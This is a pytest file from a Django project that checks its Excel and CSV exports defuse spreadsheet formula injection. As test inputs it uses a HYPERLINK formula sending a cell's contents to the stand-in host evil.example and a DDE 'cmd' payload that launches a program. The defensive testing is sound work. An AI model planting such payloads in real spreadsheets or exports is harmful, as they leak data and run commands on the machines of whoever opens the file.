"""Stored text never becomes a formula in a spreadsheet (plans/spreadsheets.py, OWASP CSV injection).

Each leading character a spreadsheet program reads as the start of a formula is tried in an indicator's name,
in the Excel report, the entry template and the CSV; LibreOffice then opens a report and shows the text.
"""

import csv
import io
import subprocess

import pytest
from openpyxl import load_workbook

from indicators.models import IndicatorValue
from initiatives.workbook import entry_template
from publications.exports import build_report
from publications.opendata import indicators_csv
from tests.factories import make_indicator, make_measure, make_plan, make_policy, publish, shown
from tests.publications.test_exports import EXPORTED_ON, required_program

HOSTILE = '{}HYPERLINK("http://evil.example/?"&A1,"click")'
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def plan_named(start: str):
    plan = make_plan(slug="hostile-plan", title=f"{start}1+1 計画")
    measure = make_measure(make_policy(plan, title=f"{start}SUM(1,2)"), title=f"{start}cmd|' /C calc'!A0")
    indicator = make_indicator(
        measure, name=HOSTILE.format(start), unit=f"{start}人", target=(2024, "10"), actuals={2020: "5"}
    )
    publish(plan, 2020)
    return plan, indicator


def as_read(text: str) -> str:
    """The text as an .xlsx reads back: XML turns a carriage return into a line feed."""
    return text.replace("\r", "\n")


def cells_with_text(workbook):
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row if cell.value]


@pytest.mark.django_db
@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_no_cell_of_the_excel_report_is_a_formula_whatever_the_names_start_with(start):
    plan, indicator = plan_named(start)

    report = load_workbook(io.BytesIO(build_report(shown(plan, 2020), exported_on=EXPORTED_ON)))

    cells = cells_with_text(report)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert as_read(indicator.name) in [cell.value for cell in cells]  # the text itself, unchanged


@pytest.mark.django_db
@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_no_cell_of_the_entry_template_is_a_formula_names_and_notes_alike(start, django_user_model):
    plan, indicator = plan_named(start)
    IndicatorValue.objects.create(indicator=indicator, fiscal_year=2021, value=6, note=f"{start}1+1")
    admin = django_user_model.objects.create_superuser("admin", password="x")

    template = load_workbook(io.BytesIO(entry_template(admin, plan, 2021)))

    cells = cells_with_text(template)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert {as_read(indicator.name), as_read(f"{start}1+1")} <= {cell.value for cell in cells}


@pytest.mark.django_db
@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_every_text_field_of_the_csv_that_could_start_a_formula_starts_with_an_apostrophe(start):
    plan, indicator = plan_named(start)

    rows = list(csv.DictReader(io.StringIO(indicators_csv(shown(plan, 2020)).lstrip("\ufeff"))))

    assert rows
    for row in rows:
        texts = [value for value in row.values() if value and value[0] in "=+-@\t\r"]
        assert texts == [], texts
    first = rows[0]
    assert "'" + indicator.name in first.values()
    assert any(value == "'" + f"{start}人" for value in first.values())


@pytest.mark.django_db
def test_negative_numbers_in_the_csv_stay_numbers():
    plan = make_plan(slug="negative-plan")
    make_indicator(make_measure(make_policy(plan)), name="差", unit="ポイント", actuals={2020: "-3.5"})
    publish(plan, 2020)

    rows = list(csv.reader(io.StringIO(indicators_csv(shown(plan, 2020)).lstrip("\ufeff"))))

    assert rows[1][rows[0].index("value")] == "-3.5"


@pytest.mark.django_db
def test_libreoffice_shows_a_formula_like_name_as_text_and_evaluates_nothing(tmp_path):
    libreoffice, pdftotext = required_program("libreoffice"), required_program("pdftotext")
    plan = make_plan(slug="formula-plan")
    make_indicator(make_measure(make_policy(plan)), name="=1+1", target=(2024, "10"), actuals={2020: "5"})
    publish(plan, 2020)
    source = tmp_path / "report.xlsx"
    source.write_bytes(build_report(shown(plan, 2020), exported_on=EXPORTED_ON))

    subprocess.run(
        [libreoffice, f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless", "--convert-to", "pdf",
         "--outdir", str(tmp_path), str(source)],
        capture_output=True, timeout=300, check=True,
    )  # fmt: skip
    text = subprocess.run(
        [pdftotext, str(tmp_path / "report.pdf"), "-"], capture_output=True, text=True, check=True
    ).stdout

    assert "=1+1" in text
